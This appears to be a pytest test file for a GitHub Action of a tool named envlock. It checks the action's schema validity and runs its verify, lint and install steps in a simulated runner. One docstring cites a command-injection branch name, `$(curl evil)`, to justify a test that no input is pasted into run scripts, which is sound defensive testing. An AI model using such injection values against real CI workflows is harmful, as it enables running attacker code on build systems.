"""The action for GitHub: valid by its schema, and its steps run here as a runner runs them."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
import yaml
from jsonschema import Draft7Validator

from tests.conftest import Command
from tests.exhaustive import exhaustive

ROOT = Path(__file__).resolve().parents[1]
ACTION: dict[str, Any] = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
STEPS = {step["id"]: step for step in ACTION["runs"]["steps"]}
OFF = {"TF_ENABLE_ONEDNN_OPTS": "0"}
WRONG = "import tensorflow as tf\n\ntf.config.experimental.enable_op_determinism\n"


def test_it_is_valid() -> None:
    schema = resources.files("check_jsonschema") / "builtin_schemas" / "vendor" / "github-actions.json"
    validator = Draft7Validator(json.loads(schema.read_text(encoding="utf-8")))
    assert [error.message for error in validator.iter_errors(ACTION)] == []
    assert [error.message for error in validator.iter_errors({**ACTION, "runs": {"usng": "composite"}})] != []


def test_no_input_is_pasted_into_a_program() -> None:
    """It would be one: a branch can be called `$(curl evil)`."""
    assert [name for name, step in STEPS.items() if "${{" in step["run"]] == []


class Runner:
    """A runner of GitHub with a folder of its own."""

    def __init__(self, folder: Path) -> None:
        self.temp = folder / "temp"
        self.project = folder / "project"
        self.path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
        for each in (self.temp, self.project):
            each.mkdir()

    def run(
        self, step: str, inputs: dict[str, str] | None = None, environ: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        """Run a step with inputs."""
        values = {
            f"inputs.{name}": (inputs or {}).get(name, each["default"]) for name, each in ACTION["inputs"].items()
        }
        values |= {"runner.temp": str(self.temp), "github.action_path": str(ROOT)}
        given = {
            name: re.sub(r"\$\{\{ ([\w.]+) \}\}", lambda found: values[found[1]], text)
            for name, text in STEPS[step]["env"].items()
        }
        files = {name: str(self.temp / name) for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
        plain = {name: os.environ[name] for name in ("HOME", "LANG") if name in os.environ}
        script = self.temp / f"{step}.sh"
        script.write_text(STEPS[step]["run"], encoding="utf-8")
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", script],
            cwd=self.project,
            env={**plain, "PATH": self.path, **files, **given, **(environ or {})},
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )

    def outputs(self) -> dict[str, str]:
        """Return what the steps have given to the workflow."""
        lines = (self.temp / "GITHUB_OUTPUT").read_text(encoding="utf-8").splitlines()
        return dict(line.split("=", 1) for line in lines)

    def summary(self) -> str:
        """Return what the page of the job shows."""
        file = self.temp / "GITHUB_STEP_SUMMARY"
        return file.read_text(encoding="utf-8") if file.exists() else ""


@pytest.fixture
def runner(tmp_path: Path) -> Runner:
    """Return a runner on which this checkout is installed."""
    found = Runner(tmp_path)
    program = found.temp / "envlock" / "bin" / "envlock"
    program.parent.mkdir(parents=True)
    program.write_text(f'#!/bin/sh\nPYTHONSAFEPATH=1 exec "{sys.executable}" -m envlock "$@"\n', encoding="utf-8")
    program.chmod(0o755)
    return found


@pytest.fixture
def lock(runner: Runner) -> Path:
    """Return the lockfile of what a step finds without inputs."""
    Command([str(runner.temp / "envlock" / "bin" / "envlock")], runner.project)("capture", "-o", "envlock.lock")
    return runner.project / "envlock.lock"


@pytest.mark.processes
def test_the_locked_environment_passes(runner: Runner, lock: Path, envlock: Command) -> None:
    done = runner.run("verify")
    assert (done.returncode, done.stderr) == (0, "")
    line = envlock("show", "--line", str(lock)).stdout.strip()
    assert (runner.outputs(), runner.summary()) == ({"match": "true", "line": line}, "")


@pytest.mark.processes
def test_another_one_is_annotated_and_the_summary_says_why(runner: Runner, lock: Path) -> None:
    lock = lock.rename(lock.with_name("my gpu.lock"))
    inputs = {"lock": lock.name, "policy": "strict", "python": sys.executable}
    done = runner.run("verify", inputs, OFF)
    assert (done.returncode, done.stderr) == (1, "")
    assert done.stdout.startswith("::error ")
    assert runner.outputs()["match"] == "false"
    lines = runner.summary().splitlines()
    assert lines[:4] == [
        "### envlock: this is not the locked environment",
        "````text",
        "does not match under policy strict: 1 fact differs",
        "  x environ.TF_ENABLE_ONEDNN_OPTS: locked unset, live 0",
    ]
    assert lines[-1] == "````"


@pytest.mark.processes
def test_an_interpreter_that_is_not_there_is_no_verdict(runner: Runner, lock: Path) -> None:
    done = runner.run("verify", {"python": "python9"})
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "error: cannot run python9: No such file or directory")
    assert not (runner.temp / "GITHUB_OUTPUT").exists()


@pytest.mark.processes
def test_without_a_lockfile_there_is_no_verdict(runner: Runner) -> None:
    done = runner.run("verify", {"lock": "other.lock"})
    assert (done.returncode, done.stdout) == (3, "")
    assert done.stderr.startswith("error: ")
    assert not (runner.temp / "GITHUB_OUTPUT").exists()


@pytest.mark.processes
def test_the_linter_writes_its_report_and_then_fails(runner: Runner) -> None:
    (runner.project / "train.py").write_text(WRONG)
    (runner.project / "fine.py").write_text("print(1)\n")
    assert runner.run("lint", {"lint": "fine.py"}).returncode == 0
    done = runner.run("lint", {"lint": "fine.py train.py"})
    assert (done.returncode, done.stdout, done.stderr) == (1, "", "")
    report = json.loads(Path(runner.outputs()["sarif"]).read_bytes())
    assert [result["ruleId"] for result in report["runs"][0]["results"]] == ["ENV101"]


@pytest.mark.processes
@pytest.mark.parametrize("paths", ["fine.py\ntrain.py\n", "\n  fine.py\n\n  train.py", "fine.py\ttrain.py", "train.py"])
def test_a_list_on_several_lines_is_linted_to_its_end(paths: str, runner: Runner) -> None:
    (runner.project / "train.py").write_text(WRONG)
    (runner.project / "fine.py").write_text("print(1)\n")
    assert runner.run("lint", {"lint": paths}).returncode == 1


@pytest.mark.processes
def test_rules_of_the_lockfile_can_be_disregarded(runner: Runner, lock: Path) -> None:
    found = json.loads(lock.read_bytes())
    found["policy"]["overrides"] = {"environ.TF_ENABLE_ONEDNN_OPTS": "ignore"}
    lock.write_text(json.dumps(found))
    codes = [runner.run("verify", {"overrides": each}, OFF).returncode for each in ("true", "false", "no")]
    assert codes == [0, 1, 2]


@exhaustive
@pytest.mark.slow
def test_it_installs_itself(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    done = runner.run("install")
    assert done.returncode == 0, done.stdout + done.stderr
    (runner.project / "train.py").write_text(WRONG)
    assert runner.run("lint", {"lint": "."}).returncode == 1
